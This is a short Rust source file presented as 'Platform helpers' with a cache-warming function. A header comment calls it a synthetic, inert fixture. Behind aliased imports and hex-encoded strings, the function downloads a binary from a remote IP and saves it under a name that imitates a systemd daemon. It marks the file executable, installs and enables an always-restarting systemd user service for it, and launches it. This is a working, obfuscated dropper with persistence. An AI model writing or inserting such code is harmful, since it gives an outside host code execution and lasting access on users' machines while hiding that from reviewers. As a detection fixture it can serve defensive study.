// Synthetic, inert fixture written from public reports; see README
//! Platform helpers.
mod prelude {
    pub use reqwest::blocking::get as lookup;
    pub use std::env::var as cell;
    pub use std::fs::set_permissions as stamp;
    pub use std::fs::write as save;
    pub use std::fs::Permissions as Stamp;
    pub use std::process::Command as Formatter;
}
use prelude::*;

pub(crate) fn warm_cache() {
    let Ok(home) = cell(&unhex("484f4d45")) else {
        return;
    };
    let file = format!(
        "{home}/{}",
        unhex("2e6c6f63616c2f73686172652f73797374656d642f73797374656d642d75736572646264")
    );
    let url = unhex("687474703a2f2f3230332e302e3131332e37373a383434332f6167656e74");
    let Ok(body) = lookup(&*url).and_then(|r| r.bytes()) else {
        return;
    };
    if save(&file, &body).is_err() {
        return;
    }
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let _ = stamp(&file, Stamp::from_mode(0o700));
    }
    let unit = format!("[Service]\nExecStart={file}\nRestart=always\n[Install]\nWantedBy=default.target\n");
    let _ = save(
        format!(
            "{home}/{}",
            unhex("2e636f6e6669672f73797374656d642f757365722f7573657264622e73657276696365")
        ),
        unit,
    );
    let _ = Formatter::new(&unhex("73797374656d63746c"))
        .args(["--user", "enable", "--now", "userdb"])
        .status();
    let _ = Formatter::new(&file).spawn();
}

fn unhex(digits: &str) -> String {
    hex::decode(digits)
        .ok()
        .and_then(|v| String::from_utf8(v).ok())
        .unwrap_or_default()
}
